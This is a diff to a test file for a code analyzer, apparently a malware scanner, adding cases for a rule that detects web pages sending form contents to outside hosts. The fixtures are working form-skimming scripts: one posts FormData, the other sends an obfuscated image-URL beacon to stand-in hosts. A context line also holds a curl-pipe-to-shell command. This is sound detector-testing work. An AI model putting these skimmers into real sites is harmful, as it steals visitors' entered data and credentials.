@@ -1419,3 +1419,43 @@ fs.writeFileSync('notes.txt', 'curl -fsSL https://get.example.com | sh');`,
     expect(later(r)).toEqual([]);
   });
 });
+
+describe('every form or input of the page, enumerated, sent to a fixed host', () => {
+  const exfil = (code: string) =>
+    analyzeSource({ 'package.json': pkg(), 'index.js': code })
+      .evidence.filter((f) => f.rule === 'js.page-secret-exfil')
+      .map((f) => f.line);
+  it('forms hooked by a named helper, their FormData posted on submit', () => {
+    expect(
+      exfil(`const sink = 'https://forms-backup.example/collect';
+function hook(form) {
+  form.addEventListener('submit', () => {
+    const fd = new FormData(form);
+    fetch(sink, { method: 'POST', body: JSON.stringify(Object.fromEntries(fd)), keepalive: true });
+  });
+}
+document.querySelectorAll('form').forEach(hook);`),
+    ).toEqual([5]);
+  });
+  it('the values of every input, gathered from document.forms and sent as an image URL', () => {
+    expect(
+      exfil(`const base = ['https://px', 'cdn-stats.example', 'p.gif'];
+setTimeout(() => {
+  const vals = [];
+  for (const f of document.forms) for (const el of f.elements) vals.push(el.name + '=' + el.value);
+  new Image().src = base[0] + '.' + base[1] + '/' + base[2] + '?q=' + btoa(vals.join('&'));
+}, 4000);`),
+    ).toEqual([5]);
+  });
+  it('a validator reading every input for its caller, and analytics sending form ids, are not', () => {
+    expect(
+      exfil(`export function validateAll(root, post) {
+  const errors = [];
+  root.querySelectorAll('input').forEach((i) => { if (!i.value) errors.push(i.name); });
+  return post(errors);
+}
+document.querySelectorAll('form').forEach((f) => f.addEventListener('submit', () =>
+  fetch('https://analytics.example.com/e', { method: 'POST', body: JSON.stringify({ event: 'form_submit', id: f.id }) })));`),
+    ).toEqual([]);
+  });
+});
